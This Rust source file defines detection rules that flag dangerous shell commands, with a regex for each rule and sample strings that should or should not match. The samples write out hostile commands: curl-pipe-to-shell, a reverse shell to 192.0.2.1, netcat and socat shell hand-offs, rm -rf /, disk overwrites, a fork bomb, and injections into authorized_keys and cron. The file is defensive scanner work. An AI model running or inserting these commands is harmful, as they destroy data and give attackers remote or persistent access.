//! Shell that runs what it has not seen, destroys, opens a door, or stays.
use super::Rule;
use crate::Severity::{Critical, High, Medium};

pub(super) const RULES: &[Rule] = &[
    Rule {
        id: "download-to-shell",
        severity: High,
        message: "Runs a download unseen: fetch it, check it, then run it.",
        keywords: &["curl", "wget"],
        pattern: concat!(
            r"\b(?:curl|wget)\b[^|\n]*\|\s*(?:sudo\s+(?:-\S+\s+)*)?(?:/\S*/)?(?:ba|z|da|k|fi)?sh\b",
            r#"|\b(?:eval|(?:ba|z|da|k)?sh\s+-c)\s+["']?(?:\$\(|`)\s*(?:curl|wget)\b"#,
            r"|\b(?:source|\.|(?:ba|z|da|k)?sh)\s+<\(\s*(?:curl|wget)\b"
        ),
        fires: &[
            concat!("curl -fsSL https://get.example.org | ", "sh"),
            concat!("wget -qO- https://x.example.org/i | sudo ", "bash -s"),
            concat!("eval \"$(", "curl https://x.example.org)\""),
            concat!("bash <", "(curl -s https://x.example.org)"),
        ],
        quiet: &[
            "curl -o file https://x.example.org",
            "curl https://x.example.org | jq .",
            "wget is a shell command",
        ],
        ..Rule::PLAIN
    },
    Rule {
        id: "decode-to-shell",
        severity: Critical,
        message: "Runs hidden code: decode it by hand and read it.",
        keywords: &["base64", "xxd"],
        pattern: r"\b(?:base64\s+(?:-d|-D|--decode)|xxd\s+-r)\b[^|\n]*\|\s*(?:sudo\s+)?(?:/\S*/)?(?:ba|z|da|k)?sh\b",
        fires: &[concat!("echo ZWNobyBoaQ== | base64 -d | ", "sh")],
        quiet: &["base64 -d secret.b64 > secret", "echo hi | base64 | ssh host cat"],
        ..Rule::PLAIN
    },
    Rule {
        id: "destroy-files",
        severity: Critical,
        message: "Deletes a root or home folder.",
        keywords: &["rm "],
        pattern: concat!(
            r"\brm\s+(?:-\S+\s+)*(?:-[a-zA-Z]*[rR][a-zA-Z]*|--recursive)\s+(?:-\S+\s+)*",
            r#"["']?(?:/|~/?|\$HOME/?|\$\{HOME\}/?)\*?(?:["'\s;&|)`]|$)"#
        ),
        fires: &[
            concat!("rm -rf ", "/"),
            concat!("sudo rm -r -f \"$HOME", "\""),
            concat!("rm -rf --no-preserve-root ", "/*"),
        ],
        quiet: &[
            "rm -rf /tmp/build",
            "rm -rf ./target",
            "rm -f ~/.cache/x",
            "farm -r /",
            "rm -rf \"$HOME/.cache\"",
        ],
        ..Rule::PLAIN
    },
    Rule {
        id: "destroy-disk",
        severity: Critical,
        message: "Overwrites a disk.",
        keywords: &["mkfs", "of=/dev/", "> /dev/sd", ">/dev/sd", "> /dev/nvme", ">/dev/nvme"],
        pattern: concat!(
            r"\bmkfs(?:\.[a-z0-9]+)?\s+(?:-\S+\s+)*/dev/[a-z]",
            r"|\bdd\s[^\n]*\bof=/dev/(?:sd|nvme|hd|vd|mmcblk|disk)|>\s*/dev/(?:sd|nvme|hd|vd)[a-z0-9]"
        ),
        fires: &[concat!("mkfs.ext4 /dev", "/sda1"), concat!("dd if=/dev/zero of=/dev", "/nvme0n1")],
        quiet: &["dd if=image of=/dev/null", "mkfs makes file systems", "mkfs.ext4 image.raw"],
        ..Rule::PLAIN
    },
    Rule {
        id: "reverse-shell",
        severity: Critical,
        message: "Hands a shell to another machine.",
        keywords: &["/dev/tcp/", "nc ", "ncat ", "socat ", "mkfifo"],
        pattern: concat!(
            r"\b(?:ba|z|da|k)?sh\s+-i\b[^\n]*/dev/(?:tcp|udp)/|\bexec\s+[0-9]*<>\s*/dev/tcp/",
            r"|\b(?:nc|ncat)\s[^\n|;]*(?:\s-[a-z]*e|\s-c|--exec)\s+\S*(?:sh|cmd)\b|\bsocat\s[^\n]*\bexec:\S*sh\b",
            r"|\bmkfifo\s[^\n]*\|\s*\S*sh\s+-i\b"
        ),
        fires: &[
            concat!("bash -i >& /dev/", "tcp/192.0.2.1/4444 0>&1"),
            concat!("nc 192.0.2.1 4444 -e ", "/bin/sh"),
            concat!("socat tcp:192.0.2.1:1 exec:", "bash,pty"),
        ],
        quiet: &[
            "nc -z localhost 80",
            "timeout 1 cat < /dev/tcp/localhost/80",
            "func shell",
            "nc -lk 8080 -c",
        ],
        ..Rule::PLAIN
    },
    Rule {
        id: "fork-bomb",
        severity: High,
        message: "Starts processes without end.",
        keywords: &["(){", "() {"],
        pattern: r"(?:^|\s):\s*\(\)\s*\{\s*:\s*\|\s*:\s*&\s*\}\s*;\s*:",
        fires: &[concat!(":(){ :|:", "& };:")],
        quiet: &["fn main() { :: }", "f() { g | h & }; f"],
        ..Rule::PLAIN
    },
    Rule {
        id: "open-permissions",
        severity: Medium,
        message: "Lets everybody write: give rights to the one who needs them.",
        keywords: &["chmod"],
        pattern: r"\bchmod\s+(?:-\S+\s+)*(?:0?777|a\+rwx|ugo\+rwx)\b",
        fires: &[concat!("chmod -R ", "777 /srv")],
        quiet: &["chmod 755 run.sh", "chmod a+x run.sh", "chmod 1777 /tmp"],
        ..Rule::PLAIN
    },
    Rule {
        id: "gain-root",
        severity: High,
        message: "Gives root without a password.",
        keywords: &["nopasswd"],
        pattern: r"\bNOPASSWD:\s*ALL\b",
        fires: &[concat!("app ALL=(ALL) NOPASSWD", ": ALL")],
        quiet: &["app ALL=(root) NOPASSWD: /usr/bin/systemctl restart app", "nopasswd"],
        ..Rule::PLAIN
    },
    Rule {
        id: "persist-access",
        severity: High,
        message: "Adds a key or a job that stays.",
        keywords: &["authorized_keys", "crontab", "/etc/cron", "/etc/ld.so.preload"],
        pattern: concat!(
            r"(?:>>?|\btee\s+(?:-a\s+)?)\s*[\x22']?[\w~$/.{}-]*(?:\.ssh/authorized_keys|/etc/cron\S*|/etc/ld\.so\.preload)",
            r"|\|\s*crontab\s+-(?:\s|$)"
        ),
        fires: &[
            concat!("echo $KEY >> ~/.ssh/", "authorized_keys"),
            concat!("tee -a \"$HOME/.ssh/", "authorized_keys\""),
            concat!("(crontab -l; echo '* * * * * x') | crontab", " -"),
        ],
        quiet: &["cat ~/.ssh/authorized_keys", "crontab -l", "edit /etc/crontab by hand"],
        ..Rule::PLAIN
    },
];
